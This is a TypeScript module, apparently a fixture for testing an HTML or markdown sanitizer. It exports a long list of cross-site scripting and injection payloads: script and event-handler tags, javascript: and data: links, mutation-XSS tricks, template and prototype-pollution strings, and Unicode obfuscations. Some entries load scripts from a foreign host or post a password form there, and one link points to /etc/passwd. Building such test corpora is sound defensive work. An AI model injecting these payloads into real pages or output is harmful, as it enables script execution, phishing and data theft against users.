import { FOREIGN } from "./harm.ts";

const RUN = "window.pwned=1";
const ENCODED = Array.from("javascript:", (letter) => `&#${letter.charCodeAt(0)};`).join("");
const BIDI = "\u202e";
const NUL = "\u0000";
const ZERO_WIDTH = "\u200b";
const SVG = `<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><script>${RUN}</script></svg>`;
const FENCE = "```";

/** What would run if it were taken for a page, or for part of one. */
const tags = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${FOREIGN}/1.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script type="module">import "${FOREIGN}/2.js"</script>`,
  `<script type="importmap">{"imports":{"react":"${FOREIGN}/3.js"}}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC="x" ONERROR=${RUN}>`,
  `<img src="x"onerror="${RUN}"alt="">`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<img src="${FOREIGN}/4.png" srcset="${FOREIGN}/5.png 2x">`,
  `<picture><source srcset="${FOREIGN}/6.png"><img src="${FOREIGN}/7.png"></picture>`,
  `<img src="data:image/svg+xml,${encodeURIComponent(SVG)}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a link</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,${encodeURIComponent(SVG)}#x"></use></svg>`,
  `<svg><image href="${FOREIGN}/8.png"></image></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"></set></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="${FOREIGN}/9"></iframe><frameset><frame src="${FOREIGN}/10"></frameset>`,
  `<object data="${FOREIGN}/11.swf"></object><embed src="${FOREIGN}/12.swf">`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<applet code="${FOREIGN}/13.class"></applet>`,
  `<meta http-equiv="refresh" content="0; url=${FOREIGN}/14">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<base href="${FOREIGN}/">`,
  `<link rel="stylesheet" href="${FOREIGN}/15.css"><link rel="prefetch" href="${FOREIGN}/16">`,
  `<style>@import "${FOREIGN}/17.css"; body{background:url(${FOREIGN}/18.png)}</style>`,
  `<style>*{display:none!important}</style>`,
  `<div style="background:url(${FOREIGN}/19.png)">a ground</div>`,
  `<div style="width:expression(${RUN});behavior:url(${FOREIGN}/20.htc)">an expression</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">over everything</div>`,
  `<table background="${FOREIGN}/21.png"><tr><td background="${FOREIGN}/22.png">a cell</td></tr></table>`,
  `<form action="${FOREIGN}/23"><input name="password"><button>Sign in</button></form>`,
  `<form><button formaction="javascript:${RUN}">Go on</button></form>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea><keygen autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>more</summary>less</details>`,
  `<video src="${FOREIGN}/24.mp4" poster="${FOREIGN}/25.png" onerror="${RUN}"><source onerror="${RUN}"></video>`,
  `<audio src="${FOREIGN}/26.mp3" onloadstart="${RUN}" autoplay></audio>`,
  `<marquee onstart="${RUN}">moving</marquee>`,
  `<p onmouseover="${RUN}" onpointerenter="${RUN}" onclick="${RUN}">a paragraph</p>`,
  `<p style="animation:appear 1s" onanimationstart="${RUN}" onanimationend="${RUN}">it moves</p>`,
  `<body onload="${RUN}" onpageshow="${RUN}" onhashchange="${RUN}">`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<x-element is="x" onclick="${RUN}" tabindex="1" autofocus onfocus="${RUN}">of one's own</x-element>`,
  `<button popovertarget="pwned">open</button><div popover id="pwned" onbeforetoggle="${RUN}">opened</div>`,
  `<dialog open onclose="${RUN}"><form method="dialog"><button>close</button></form></dialog>`,
  `<isindex action="javascript:${RUN}"><plaintext>all that follows`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?><?php echo "<script>${RUN}</script>" ?>`,
  `<!doctype html [<!ENTITY x "<script>${RUN}</script>">]>&x;`,
];

/** What is not closed, and would take what follows along. */
const unclosed = [
  "<!-- and nothing after it",
  `<img src="${FOREIGN}/27?`,
  `<img src=x onerror="${RUN}`,
  `<a href="javascript:${RUN}`,
  "<textarea>",
  "<style>",
  "<script>",
  `<svg onload=${RUN}//`,
  "</div></div></main></body></html>",
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</title></style></textarea></script><script>${RUN}</script>`,
];

/** Links of HTML and of markdown that are none. */
const links = [
  `<a href="javascript:${RUN}">a script</a>`,
  `<a href="JaVaScRiPt:${RUN}">a script</a>`,
  `<a href="${ENCODED}${RUN}">a script</a>`,
  `<a href="java&Tab;script&colon;${RUN}">a script</a>`,
  `<a href=" &#1; javascript:${RUN}">a script</a>`,
  `<a href="javascript${ZERO_WIDTH}:${RUN}">a script</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="blob:${FOREIGN}/28">a blob</a><a href="file:///etc/passwd">a file</a>`,
  `<a href="//elsewhere.example/29" ping="${FOREIGN}/30" target="_self" rel="opener">no scheme</a>`,
  `[a script](javascript:${RUN})`,
  `[a script](JAVASCRIPT:${RUN} "title")`,
  `[a script](java\nscript:${RUN})`,
  `[a script](<javascript:${RUN}>)`,
  `[a script](javascript&colon;${RUN})`,
  `[a script](${ENCODED}${RUN})`,
  `[a script](\u0001javascript:${RUN})`,
  `[data](data:text/html;base64,${btoa(`<script>${RUN}</script>`)})`,
  `[vb](vbscript:msgbox(1))`,
  `[reference][1]\n\n[1]: javascript:${RUN}`,
  `[breaks out](https://here.example/"onmouseover="${RUN})`,
  `[breaks out](${FOREIGN}/31 "\\" onmouseover=\\"${RUN}")`,
  `[https://bank.example](${FOREIGN}/32)`,
  `[who](https://bank.example@elsewhere.example/33)`,
  `[![an image](x:x)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<data:text/html,${RUN}>`,
  `${FOREIGN}/34?"onclick="${RUN}`,
  `www.elsewhere.example/35 and mailto:someone@elsewhere.example?bcc=all`,
  `![an image](${FOREIGN}/36.png?what=was+said)`,
  `![an image][2]\n\n[2]: ${FOREIGN}/37.png`,
  `![an image](javascript:${RUN})`,
  `![x" onerror="${RUN}](x:x)`,
  `![an image](http://elsewhere.example/38.png)`,
  `![an image](//elsewhere.example/39.png)`,
  `![half an image](${FOREIGN}/40.p`,
  `[^1]: <img src=x onerror=${RUN}>\n\nA note[^1]`,
];

/** Languages that others draw, or run. */
const fences = [
  `${FENCE}html\n<script>${RUN}</script><img src=x onerror="${RUN}">\n${FENCE}`,
  `${FENCE}svg\n${SVG}\n${FENCE}`,
  `${FENCE}mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]-->B; click A "javascript:${RUN}"\n${FENCE}`,
  `${FENCE}math\n\\href{javascript:${RUN}}{x}\n${FENCE}`,
  `$$\\href{javascript:${RUN}}{x} \\includegraphics{${FOREIGN}/41.png} \\htmlData{x=1}{y}$$`,
  `${FENCE}"><img src=x onerror=${RUN}>\nin the name of the language\n${FENCE}`,
  `${FENCE}js\n</code></pre><script>${RUN}</script>`,
  `${FENCE}constructor\n__proto__\n${FENCE}`,
  `~~~jsx\n<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=${RUN}>"}} />\n~~~`,
  `\`<img src=x onerror=${RUN}>\` and \`\`</code><script>${RUN}</script>\`\``,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|---|---|\n| <script>${RUN}</script> | y |`,
];

/** What would take the place of names that the page itself uses, or break out of the data that it carries. */
const names = [
  '<a id="pwned"></a><a id="pwned" name="x" href="x:x"></a>',
  '<img name="pwned"><form name="pwned"></form>',
  '<form id="document"><input name="cookie"><input name="body"></form>',
  '<div id="main">not the main one</div><div id="__next">nor the next one</div>',
  '<a id="__webpack_nonce__" href="x:x"></a><div id="currentScript"></div>',
  '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}',
  "__proto__",
  "constructor",
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>`,
  `]]></script>"];${RUN};//`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\u2028${RUN}\u2029//`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  `%3Cscript%3E${RUN}%3C/script%3E &lt;script&gt;${RUN}&lt;/script&gt;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `${BIDI}>tpircs/<1=denwp.wodniw>tpircs<`,
  `photo${BIDI}gnp.exe`,
  `<scr${ZERO_WIDTH}ipt>${RUN}</scr${ZERO_WIDTH}ipt>`,
  `<${NUL}script>${RUN}</script>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `\ud800<script>${RUN}</script>`,
  "\u0301".repeat(50),
];

/** Texts that have run, somewhere, once. If one runs here it leaves `pwned`, or asks for something elsewhere. */
export const payloads: readonly string[] = [...tags, ...unclosed, ...links, ...fences, ...names];

/** A picture of its own that would run if it were not only shown. */
export const HOSTILE_SVG = `data:image/svg+xml,${encodeURIComponent(SVG)}`;

/** A page of its own that would run if a link led to it. */
export const HOSTILE_PAGE = `data:text/html,${encodeURIComponent(`<script>opener.pwned=1;${RUN}</script>`)}`;
